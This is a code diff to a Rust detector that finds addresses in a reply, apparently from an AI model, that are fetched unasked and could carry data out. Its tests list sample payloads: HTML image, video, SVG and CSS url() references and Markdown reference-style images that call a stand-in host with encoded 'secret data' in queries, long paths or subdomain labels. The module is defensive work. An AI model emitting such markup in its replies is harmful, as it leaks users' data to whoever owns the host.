@@ -1,6 +1,6 @@
 //! Addresses in a reply: where they lead, and whether they look made to carry data away.
 
-use std::ops::Range;
+use std::{collections::BTreeSet, ops::Range};
 
 /// An address in a text.
 #[derive(Clone, Debug, PartialEq, Eq)]
@@ -14,15 +14,17 @@ pub(super) struct Link<'a> {
     pub image: bool,
 }
 
-/// Every address with a scheme of the web, and every Markdown image that leaves the scheme out.
+/// Every address with a scheme of the web, and every one in Markdown or HTML that leaves the
+/// scheme out.
 pub(super) fn links(text: &str) -> Vec<Link<'_>> {
+    let references = references(text);
     let mut links = Vec::new();
     let mut from = 0;
     let at = |from: usize| memchr::memmem::find(text.as_bytes().get(from..)?, b"//");
     while let Some(found) = at(from) {
         let slashes = from + found;
         from = slashes + 2;
-        if let Some(link) = link(text, slashes) {
+        if let Some(link) = link(text, slashes, &references) {
             from = link.range.end.max(from);
             links.push(link);
         }
@@ -30,19 +32,67 @@ pub(super) fn links(text: &str) -> Vec<Link<'_>> {
     links
 }
 
-fn link(text: &str, slashes: usize) -> Option<Link<'_>> {
+/// The labels that images of a text refer to, in lower case: `b` for `![a][b]`, `a` for `![a][]`
+/// and `![a]`.
+fn references(text: &str) -> BTreeSet<String> {
+    let mut labels = BTreeSet::new();
+    for (start, _) in text.match_indices("![") {
+        let label = |from: usize| {
+            let rest = text.get(from..)?.strip_prefix('[')?;
+            Some((rest.get(..rest.find(']')?)?, from))
+        };
+        let Some((alt, at)) = label(start + 1) else { continue };
+        let behind = at + alt.len() + 2;
+        let named = label(behind).map(|(name, _)| name).filter(|name| !name.is_empty());
+        labels.insert(folded(named.unwrap_or(alt)));
+    }
+    labels
+}
+
+fn folded(label: &str) -> String {
+    label.split_whitespace().collect::<Vec<_>>().join(" ").to_lowercase()
+}
+
+/// The label that an address is said to stand for: `[label]: address`, at the start of a line.
+fn defined(opened: &str) -> Option<String> {
+    let line = opened.rsplit('\n').next()?.trim_start();
+    let label = line.strip_prefix('[')?.strip_suffix("]:")?;
+    Some(folded(label))
+}
+
+/// What is fetched unasked, by the name of its attribute.
+const FETCHED: [&str; 6] = ["src", "srcset", "poster", "background", "data", "xlink:href"];
+
+/// Whether an address stands in something of HTML or CSS that is fetched unasked.
+fn is_fetched(opened: &str) -> bool {
+    let bare = opened.trim_end_matches([' ', '"', '\'', '\t', '\n']);
+    if bare.to_ascii_lowercase().ends_with("url(") {
+        return true;
+    }
+    let Some(name) = bare.strip_suffix('=') else { return false };
+    let name = name.trim_end();
+    let name = name.rsplit([' ', '\t', '\n', '"', '\'', '<', '/']).next().unwrap_or_default();
+    FETCHED.iter().any(|fetched| name.eq_ignore_ascii_case(fetched))
+}
+
+fn link<'t>(text: &'t str, slashes: usize, references: &BTreeSet<String>) -> Option<Link<'t>> {
     let before = text.get(..slashes)?;
     let tail = before.get(floor(before, before.len().saturating_sub(8))..)?.to_ascii_lowercase();
     let scheme =
         ["https:", "http:", "ftp:", "wss:", "ws:"].into_iter().find(|it| tail.ends_with(it));
     let start = slashes - scheme.map_or(0, str::len);
-    let opened = text.get(..start)?.trim_end_matches([' ', '<']);
+    // Only what is near says what it is.
+    let near = text.get(floor(text, start.saturating_sub(NEAR))..start)?;
+    let opened = near.trim_end_matches([' ', '<']);
     let bracketed = opened.ends_with("](");
-    if scheme.is_none() && !bracketed {
+    let fetched = is_fetched(opened);
+    let label = defined(opened);
+    if scheme.is_none() && !bracketed && !fetched && label.is_none() {
         return None;
     }
-    let image =
-        (bracketed && is_image(opened)) || opened.ends_with("src=\"") || opened.ends_with("src=");
+    let image = fetched
+        || (bracketed && is_image(opened))
+        || label.is_some_and(|label| references.contains(&label));
     let after = text.get(slashes + 2..)?;
     let end = after
         .find(|character: char| character.is_whitespace() || "<>\"')]`".contains(character))
@@ -60,12 +110,12 @@ fn link(text: &str, slashes: usize) -> Option<Link<'_>> {
 }
 
 /// Whether the `](` at the end of a text belongs to `![`.
-fn is_image(text: &str) -> bool {
-    const LONGEST: usize = 512;
-    let from = floor(text, text.len().saturating_sub(LONGEST));
-    let near = text.get(from..).unwrap_or_default();
+fn is_image(near: &str) -> bool {
     near.rfind('[').is_some_and(|at| near.get(..at).is_some_and(|head| head.ends_with('!')))
 }
+
+/// How far before an address is looked for what it is.
+const NEAR: usize = 512;
 
 fn floor(text: &str, mut at: usize) -> usize {
     while !text.is_char_boundary(at) {
@@ -89,9 +139,11 @@ impl Link<'_> {
     }
 
     /// Whether it is fetched unasked and has room for data: an image with a query that says
-    /// something, or with a long word in its path.
+    /// something, with a long word in its path, with much of a path, or with a name of a host that
+    /// no person gave it.
     pub fn carries(&self) -> bool {
         const WORD: usize = 40;
+        const PATH: usize = 200;
         let query = self.rest.split_once('?').map_or("", |(_, query)| query);
         let value = query.split('&').filter_map(|pair| pair.split_once('='));
         let says =
@@ -100,7 +152,26 @@ impl Link<'_> {
             word.len() >= WORD
                 && word.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_+%".contains(&byte))
         });
-        self.image && (says || packed)
+        self.image && (says || packed || self.rest.len() >= PATH || self.host_carries())
+    }
+
+    /// Whether the names below the host's own hold more than a name does: each of them reaches
+    /// whoever owns the host, when the address is merely looked up.
+    fn host_carries(&self) -> bool {
+        const LABEL: usize = 25;
+        const ALL: usize = 48;
+        if self.host.contains(':') {
+            return false;
+        }
+        let labels: Vec<&str> = self.host.split('.').collect();
+        let below = labels.get(..labels.len().saturating_sub(2)).unwrap_or_default();
+        // Names of several words are joined by hyphens; what was packed is one word with digits.
+        let packed = |label: &&str| {
+            label.len() >= LABEL
+                && label.bytes().all(|byte| byte.is_ascii_alphanumeric())
+                && label.bytes().any(|byte| byte.is_ascii_digit())
+        };
+        below.iter().any(packed) || below.iter().map(|label| label.len()).sum::<usize>() >= ALL
     }
 }
 
@@ -141,6 +212,44 @@ mod tests {
             "nobody fetches it unasked"
         );
         assert!(!hosts("![x](https://e.example/logo.png?v=2)")[0].2);
+    }
+
+    #[test]
+    fn whatever_is_fetched_unasked_is_known_as_that() {
+        const DATA: &str = "e.example/p?d=c2VjcmV0IGRhdGE";
+        for text in [
+            format!("<img src='https://{DATA}'>"),
+            format!("<IMG SRC = \"https://{DATA}\">"),
+            format!("<img src=\"//{DATA}\">"),
+            format!("<img alt=x src=//{DATA}>"),
+            format!("<video poster='//{DATA}'></video>"),
+            format!("<source srcset=\"https://{DATA} 2x\">"),
+            format!("<div style=\"background: url(https://{DATA})\">"),
+            format!("<div style='background:URL(\"//{DATA}\")'>"),
+            format!("<svg><image xlink:href='//{DATA}'/></svg>"),
+            format!("![a][b]\n\n[b]: https://{DATA}"),
+            format!("![A b][]\n[a  B]: <https://{DATA}>"),
+            format!("see ![b]\n\n  [b]: //{DATA} \"title\""),
+            format!("![x]( <//{DATA}> )"),
+            "![x](https://mfrggzdfmztwq2lknnwg23tpobyxe43u.e.example/a.png)".to_owned(),
+            "![x](//aGVsbG8gd29y.bGQgaGVsbG8g.d29ybGQgaGVs.bG8gd29ybGQx.e.example)".to_owned(),
+            format!("![x](https://e.example/{})", "abcdefghij/".repeat(20)),
+        ] {
+            let found = links(&text);
+            assert!(found.len() == 1 && found[0].carries(), "{text}: {found:?}");
+        }
+        for text in [
+            format!("[b]: https://{DATA}\n\n[text][b] is a link"),
+            format!("<a href='https://{DATA}'>asked for</a>"),
+            format!("the source = https://{DATA}"),
+            "![x](https://user-images.githubusercontent.com/1/logo.png)".to_owned(),
+            "![x](https://d111111abcdef8.cloudfront.net/logo.png)".to_owned(),
+            "![x](https://my-company-production-assets.s3.eu-central-1.amazonaws.com/a.png)"
+                .to_owned(),
+            "<img src='logo.png'> // https is a scheme".to_owned(),
+        ] {
+            assert!(links(&text).iter().all(|link| !link.carries()), "{text}");
+        }
     }
 
     #[test]
